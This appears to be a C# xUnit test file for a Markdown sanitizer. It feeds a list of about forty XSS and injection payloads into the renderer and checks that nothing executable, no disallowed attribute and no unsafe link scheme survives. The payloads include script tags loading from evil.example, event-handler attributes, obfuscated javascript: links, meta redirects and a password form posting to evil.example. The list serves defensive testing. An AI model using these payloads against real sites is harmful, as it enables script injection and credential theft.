using AngleSharp.Html.Parser;
using Mentiko.Web.Rendering;
using Xunit;

namespace Mentiko.Web.Tests.Rendering;

public sealed class SafeMarkdownTests
{
    private static readonly string[] AllowedAttributes = ["href", "rel"];
    private readonly SafeMarkdown _markdown = new();

    public static TheoryData<string> Attacks { get; } =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](file:///etc/passwd)",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](https://good.example \"a\" onmouseover=\"alert(1))",
        "[x](https://good.example/\"onmouseover=\"alert(1))",
        "[x](/session/sign-out)",
        "[x](//evil.example/)",
        "<iframe src=https://evil.example></iframe>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<form action=https://evil.example><input name=password></form>",
        "<object data=https://evil.example></object><embed src=https://evil.example>",
        "<div style=\"position:fixed;inset:0\">cover</div>",
        "<a href=https://x.example target=_self id=content name=x class=btn>clobber</a>",
        "<details open ontoggle=alert(1)>x</details>",
        "<!--><img src=x onerror=alert(1)>-->",
        "```<script>alert(1)</script>\ncode\n```",
        "`<img src=x onerror=alert(1)>`",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xss contenteditable onfocus=alert(1) autofocus>",
        "https://evil.example/\"><script>alert(1)</script>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Render_Attack_LeavesNothingThatActs(string markdown)
    {
        var document = new HtmlParser().ParseDocument(_markdown.Render(markdown).Value);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, new[] { "script", "img", "iframe", "svg", "math", "style", "link", "base", "meta", "form", "input", "object", "embed", "div", "details", "noscript", "xss" });
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, AllowedAttributes));
            if (element.GetAttribute("href") is { } href)
            {
                Assert.Matches("^(https?|mailto):", href);
                Assert.Equal("noopener noreferrer nofollow", element.GetAttribute("rel"));
            }
        }
    }

    [Fact]
    public void Render_Report_KeepsWhatReportsAreMadeOf()
    {
        var html = _markdown.Render("# Title\n\nText with **weight**, `code` and [a link](https://example.org/).\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- one\n- two\n\n> quoted").Value;
        foreach (var tag in new[] { "<h1>Title</h1>", "<strong>weight</strong>", "<code>code</code>", "href=\"https://example.org/\"", "<table>", "<td>1</td>", "<li>one</li>", "<blockquote>" })
        {
            Assert.Contains(tag, html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Render_EndlessText_IsCut() =>
        Assert.True(_markdown.Render(new string('a', SafeMarkdown.MaxLength * 2)).Value.Length < SafeMarkdown.MaxLength + 100);
}
